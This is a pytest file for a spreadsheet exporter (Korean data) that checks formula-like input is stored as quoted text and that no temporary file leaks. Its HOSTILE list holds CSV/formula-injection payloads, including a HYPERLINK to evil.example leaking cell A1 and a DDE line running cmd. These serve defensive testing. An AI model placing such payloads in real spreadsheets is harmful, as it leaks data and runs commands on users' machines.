"""The Excel writer: hostile text lands as text, never as a formula, and nothing is left on disk."""

from __future__ import annotations

import io
import tempfile
from datetime import date

import openpyxl
import pytest

from dolbom.core.spreadsheet import Sheet, write_workbook

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1, "클릭")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.fixture
def private_home(settings, tmp_path):
    settings.HOME = tmp_path / "home"
    return settings.HOME


def _open(data: bytes):
    return openpyxl.load_workbook(io.BytesIO(data)).active


@pytest.mark.parametrize("value", HOSTILE)
def test_a_value_read_as_a_formula_is_written_as_text(private_home, value):
    sheet = _open(write_workbook(Sheet(title="t", heading=[value], header=[value], widths=[10], rows=[[value]])))
    for cell in (sheet["A1"], sheet["A2"], sheet["A3"]):
        assert cell.data_type == "s", (value, cell.coordinate)
        assert cell.value == value.replace("\r", "\n")  # kept as typed (XML reads a CR as a line feed)
        assert cell.quotePrefix, (value, cell.coordinate)


def test_ordinary_values_keep_their_types(private_home):
    rows = [["홍*동", date(2026, 11, 2), 12, None, "3통 2반"]]
    sheet = _open(write_workbook(Sheet(title="t", heading=[], header=list("abcde"), widths=[8] * 5, rows=rows)))
    name, day, number, empty, tong = sheet[2]
    assert (name.value, name.quotePrefix) == ("홍*동", False)
    assert day.value.date() == date(2026, 11, 2) and day.is_date
    assert number.value == 12 and number.data_type == "n"
    assert empty.value is None
    assert tong.value == "3통 2반"


def test_characters_xml_cannot_hold_are_dropped_rather_than_failing_the_file(private_home):
    sheet = _open(write_workbook(Sheet(title="t", heading=[], header=["a"], widths=[8], rows=[["메모\x01\x07끝"]])))
    assert sheet["A2"].value == "메모끝"


def test_the_sheet_never_reaches_the_shared_temporary_folder(private_home, tmp_path, monkeypatch):
    """While the rows are written (when a crash would leave the file behind), no file of the sheet exists in the
    shared temporary folder, nor under a name in DOLBOM_HOME."""
    shared = tmp_path / "shared-tmp"
    shared.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(shared))
    seen: list[object] = []

    def rows():
        for index in range(50):
            if index == 25:
                seen.extend(shared.iterdir())
                seen.extend(p for p in (private_home / "tmp" / "exports").iterdir() if p.is_file())
            yield ["홍*동"]

    write_workbook(Sheet(title="t", heading=["x"], header=["a"], widths=[8], rows=rows()))
    assert seen == []
    assert list(shared.iterdir()) == []


def test_widths_title_rows_and_a4_page(private_home):
    sheet = _open(
        write_workbook(Sheet(title="방문 목록", heading=["제목", "조건"], header=["a", "b"], widths=[10, 30], rows=[]))
    )
    assert sheet.title == "방문 목록"
    assert sheet.column_dimensions["B"].width == 30
    assert sheet.freeze_panes == "A4"
    assert sheet.page_setup.paperSize == 9  # A4
